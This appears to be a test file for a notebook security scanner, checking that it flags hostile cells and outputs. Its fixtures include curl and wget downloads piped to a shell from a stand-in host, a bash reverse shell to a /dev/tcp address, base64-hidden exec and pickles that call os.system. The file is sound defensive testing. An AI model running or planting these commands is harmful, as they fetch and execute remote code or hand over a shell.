import { beforeAll, describe, expect, it } from 'vitest';
import { verdictOf } from '../../../src/core/finding.js';
import { codeCell, dataOutput, markdownCell, notebook } from '../../../src/formats/notebook/builder.js';
import { pickle } from '../../../src/formats/pickle/builder.js';
import { initPython } from '../../../src/formats/python/runtime.js';
import { scanNotebookDoc, summary } from '../python/helpers.js';

beforeAll(initPython);

const payload = Buffer.from("import os\nos.system('id')\n").toString('base64');

describe('scanNotebook', () => {
  it('cells share one namespace; findings go to the cell, offsets inside its source', () => {
    const doc = notebook([codeCell('import base64 as b\n'), markdownCell('text'), codeCell(`x = 1\nexec(b.b64decode('${payload}'))\n`)]);
    const { format, findings } = scanNotebookDoc(doc);
    expect(format).toBe('ipynb');
    expect(summary(findings)).toEqual(['python/dynamic-exec critical notebook.ipynb!/cells/2']);
    expect(findings[0]!.location?.offset).toBe(6);
    expect(findings[0]!.message).toContain('cells/2, line 2, column 1');
  });

  it.each([
    ['a ! line', '!curl -s http://x.org/i.sh | sh\n'],
    ['an indented ! line', 'for i in range(1):\n    !wget -qO- http://x.org | bash\n'],
    ['an assigned ! line', 'out = !curl http://x.org | sh\n'],
    ['%system', '%system curl http://x.org | sh\n'],
    ['a %%bash cell', '%%bash\nset -e\ncurl -fsSL http://x.org/i.sh | sh\n'],
    ['a %%script sh cell', '%%script sh\ncurl http://x.org | sh\n'],
    ['get_ipython().system in exported code', "get_ipython().system('curl http://x.org | sh')\n"],
  ])('%s piping a download to a shell', (_name, source) => {
    const { findings } = scanNotebookDoc(notebook([codeCell('import os\n'), codeCell(source)]));
    expect(summary(findings)).toEqual(['python/download-to-shell critical notebook.ipynb!/cells/1']);
  });

  it('a script downloaded in one cell and run in another', () => {
    const { findings } = scanNotebookDoc(notebook([codeCell('!wget -q http://x.org/setup.sh -O /tmp/setup.sh\n'), codeCell('!bash /tmp/setup.sh\n')]));
    expect(summary(findings)).toEqual(['python/download-to-shell critical notebook.ipynb!/cells/1']);
  });

  it('a reverse shell in a %%bash cell', () => {
    const { findings } = scanNotebookDoc(notebook([codeCell('%%bash\nbash -i >& /dev/tcp/10.0.0.1/4444 0>&1\n')]));
    expect(summary(findings)).toEqual(['python/reverse-shell critical notebook.ipynb!/cells/0']);
  });

  it('the position of a ! line maps back to the cell source', () => {
    const source = 'x = "é"\n  \n!curl http://x.org | sh\n';
    const { findings } = scanNotebookDoc(notebook([codeCell(source)]));
    expect(findings[0]!.location?.offset).toBe(Buffer.from(source).indexOf('!curl'));
    expect(findings[0]!.message).toContain('cells/0, line 3, column 1');
  });

  it('a pickle in a binary output is scanned; a PNG is not', () => {
    const evil = pickle().proto(2).global('os', 'system').binunicode('id').tuple1().reduce().stop().bytes();
    const png = Buffer.concat([Buffer.from('89504e470d0a1a0a', 'hex'), Buffer.alloc(32)]);
    const doc = notebook([codeCell('show()', [dataOutput('image/png', png), dataOutput('application/octet-stream', evil)])]);
    const { findings } = scanNotebookDoc(doc);
    expect(summary(findings)).toEqual([
      'python/embedded-model info notebook.ipynb!/cells/0/outputs/1/application/octet-stream',
      'pickle/dangerous-callable critical notebook.ipynb!/cells/0/outputs/1/application/octet-stream!/<embedded>',
    ]);
  });

  it('a pickle literal in a cell goes under the cell', () => {
    const evil = pickle().proto(2).global('os', 'system').binunicode('id').tuple1().reduce().stop().bytes();
    const { findings } = scanNotebookDoc(
      notebook([codeCell('x = 1\n'), codeCell(`import pickle\nobj = pickle.loads(bytes.fromhex('${evil.toString('hex')}'))\n`)]),
    );
    expect(summary(findings)).toContain(
      `pickle/dangerous-callable critical notebook.ipynb!/cells/1!/<embedded@${'import pickle\nobj = pickle.loads('.length}>`,
    );
  });

  it.each([
    ['cells that are not objects', { nbformat: 4, cells: [1, 2] }],
    ['a source of the wrong type', { nbformat: 4, cells: [{ cell_type: 'code', source: { a: 1 } }] }],
  ])('a broken notebook (%s) is an error, never clean', (_name, doc) => {
    const { findings } = scanNotebookDoc(doc);
    expect(verdictOf(findings)).toBe('error');
    expect(findings[0]).toMatchObject({ fatal: true, code: 'MALFORMED' });
  });

  it('a broken cell does not hide the others', () => {
    const doc = {
      nbformat: 4,
      cells: [
        { cell_type: 'code', source: 3 },
        { cell_type: 'code', source: '!curl http://x.org | sh' },
      ],
    };
    const { findings } = scanNotebookDoc(doc);
    expect(summary(findings)).toEqual(['container/malformed low notebook.ipynb', 'python/download-to-shell critical notebook.ipynb!/cells/1']);
  });

  it('code past the size limit is an error, and the cells before it are analysed', () => {
    const big = `x = 1  # ${'p'.repeat(1024 * 1024)}\n`;
    const cells = [codeCell('!curl http://x.org | sh\n'), ...Array.from({ length: 9 }, () => codeCell(big))];
    const { findings } = scanNotebookDoc(notebook(cells));
    expect(findings.filter((f) => f.fatal).map((f) => f.code)).toEqual(['LIMIT_MEMBER_BYTES']);
    expect(findings.some((f) => f.ruleId === 'python/download-to-shell')).toBe(true);
  });

  it('an empty notebook is clean', () => {
    expect(scanNotebookDoc(notebook([]))).toEqual({ format: 'ipynb', findings: [] });
  });
});
